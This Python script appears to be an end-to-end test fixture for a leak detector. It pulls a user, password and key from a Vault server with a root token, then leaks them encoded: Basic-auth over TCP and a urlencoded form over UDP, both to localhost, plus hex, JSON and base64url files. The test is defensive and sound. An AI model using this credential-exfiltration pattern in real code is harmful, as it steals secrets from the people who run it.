#!/usr/bin/python3
"""e2e agent: reads secret/data/enc (user, pw, key) and leaks them encoded, the way real
code does:
  - an HTTP request with Authorization: Basic base64(user:pw)          -> TCP PORT
  - key.hex() to OUT/hex.txt, key's hex upper-cased to OUT/HEX.txt
  - a form body urlencode({"password": pw})                            -> UDP UPORT
  - json.dumps({"password": pw}) (ensure_ascii)                         -> OUT/doc.json
  - base64.urlsafe_b64encode(pw)                                        -> OUT/b64url.txt
usage: py_encodings.py VAULT_URL CREDS PORT UPORT OUT"""
import base64
import json
import socket
import sys
import urllib.parse
import urllib.request

vault, creds, port, uport, out = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
with open(creds) as f:
    token = json.load(f)["root_token"]
req = urllib.request.Request(vault + "/v1/secret/data/enc", headers={"X-Vault-Token": token})
with urllib.request.urlopen(req, timeout=10) as r:
    d = json.load(r)["data"]["data"]

basic = base64.b64encode(("%s:%s" % (d["user"], d["pw"])).encode()).decode()
s = socket.create_connection(("127.0.0.1", port), timeout=10)
s.sendall(("GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic %s\r\n\r\n" % basic).encode())
s.close()
with open(out + "/hex.txt", "w") as f:
    f.write("digest " + d["key"].encode().hex() + "\n")
with open(out + "/HEX.txt", "w") as f:
    f.write(d["key"].encode().hex().upper() + "\n")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(urllib.parse.urlencode({"user": "x", "password": d["pw"]}).encode(), ("127.0.0.1", uport))
with open(out + "/doc.json", "w") as f:
    json.dump({"password": d["pw"]}, f)
with open(out + "/b64url.txt", "w") as f:
    f.write(base64.urlsafe_b64encode(d["pw"].encode()).decode())
